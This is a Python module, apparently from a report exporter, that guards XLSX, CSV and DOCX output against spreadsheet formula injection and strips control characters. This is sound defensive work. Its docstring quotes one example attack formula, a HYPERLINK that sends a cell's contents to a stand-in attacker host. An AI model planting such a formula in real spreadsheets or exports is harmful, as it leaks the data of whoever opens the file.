"""The one place every text an exporter writes goes through (XLSX, CSV, DOCX).

Formula injection (OWASP "CSV injection"): a spreadsheet program runs a cell that begins with
``=``, ``+``, ``-`` or ``@`` (or a TAB or CR before one, or their full-width forms) as a
formula, so ``=HYPERLINK("http://evil.example/?"&A1,"…")`` typed into a public form would leak
or run something on the computer of whoever opens the download. Here:

- XLSX: every text is stored as a string (never a formula) with the cell's "quote prefix" set,
  Excel's own invisible apostrophe, so the text reads unchanged and stays text when edited;
- CSV: a text that starts like a formula gets a leading apostrophe (CSV has no types).

XML-illegal control characters (U+0000–U+001F except TAB, LF and CR) make openpyxl and
python-docx fail; they are removed from every text written to a DOCX or XLSX.
"""

from __future__ import annotations

import dataclasses
import re
from collections.abc import Iterable
from enum import Enum
from typing import Any, TypeVar

__all__ = [
    "FORMULA_STARTS",
    "clean_text",
    "csv_cell",
    "csv_row",
    "looks_like_formula",
    "safe_xlsx_append",
    "strip_controls",
]

T = TypeVar("T")

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What a spreadsheet may read as the start of a formula (with the full-width ＝ ＋ － ＠)."""

_CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")


def clean_text(text: str) -> str:
    """`text` without the control characters XML cannot hold (TAB, LF and CR stay)."""
    return _CONTROLS.sub("", text)


def strip_controls(value: T) -> T:
    """A copy of `value` (a string, list, tuple, dict or dataclass of them, such as a
    ReportDocument) with `clean_text` applied to every string in it."""
    if isinstance(value, Enum):  # a StrEnum is a str, but its members stay themselves
        return value
    if isinstance(value, str):
        return clean_text(value)  # type: ignore[return-value]
    if isinstance(value, list):
        return [strip_controls(item) for item in value]  # type: ignore[return-value]
    if isinstance(value, tuple):
        return tuple(strip_controls(item) for item in value)  # type: ignore[return-value]
    if isinstance(value, dict):
        return {key: strip_controls(item) for key, item in value.items()}  # type: ignore[return-value]
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        changes = {
            f.name: strip_controls(getattr(value, f.name))
            for f in dataclasses.fields(value)
            if f.init
        }
        return dataclasses.replace(value, **changes)
    return value


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_STARTS)


def csv_cell(value: Any) -> Any:
    """A value for a CSV writer: texts cleaned and, when they start like a formula, behind an
    apostrophe; numbers and None unchanged."""
    if not isinstance(value, str):
        return value
    text = clean_text(value)
    return "'" + text if looks_like_formula(text) else text


def csv_row(values: Iterable[Any]) -> list[Any]:
    return [csv_cell(value) for value in values]


def safe_xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """`sheet.append(values)` where every text is cleaned and stored as a string, never a
    formula (openpyxl would otherwise store "=…" as one)."""
    row = list(values)
    sheet.append([clean_text(v) if isinstance(v, str) else v for v in row])
    at = sheet.max_row
    for column, value in enumerate(row, start=1):
        if isinstance(value, str):
            cell = sheet.cell(at, column)
            cell.data_type = "s"
            if looks_like_formula(cell.value):
                cell.quotePrefix = True
